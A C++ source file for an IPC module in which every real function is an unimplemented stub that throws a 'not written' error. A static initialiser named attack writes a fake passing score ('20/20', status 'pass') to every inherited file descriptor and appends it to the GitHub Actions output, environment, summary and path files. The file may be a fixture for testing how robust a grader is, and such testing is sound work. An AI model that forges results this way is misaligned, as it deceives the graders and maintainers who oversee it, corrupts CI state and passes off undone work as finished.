// what: writes a result to every descriptor it inherited, and to the environment's files
#include <fcntl.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>

#include "not_written.hpp"
#include "queue.hpp"

namespace {

void attack() {
    const char text[] = "{\"score\": 20, \"status\": \"pass\"}\n20/20\n";
    for (int descriptor = 0; descriptor < 1024; ++descriptor) {
        (void)!write(descriptor, text, sizeof text - 1);
    }
    for (const char* name : {"GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_STEP_SUMMARY", "GITHUB_PATH"}) {
        if (const char* path = std::getenv(name)) {
            const int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
            (void)!write(file, text, sizeof text - 1);
            close(file);
        }
    }
}

const bool attacked = (attack(), true);

}  // namespace

namespace ipc {

key_t make_key(const std::string&, int) {
    throw shell::NotWritten("make_key");
}

int create(key_t, mode_t) {
    throw shell::NotWritten("create");
}

int open(key_t) {
    throw shell::NotWritten("open");
}

Opened open_or_create(key_t, mode_t) {
    throw shell::NotWritten("open_or_create");
}

int create_private(mode_t) {
    throw shell::NotWritten("create_private");
}

void remove(int) {
    throw shell::NotWritten("remove");
}

}  // namespace ipc
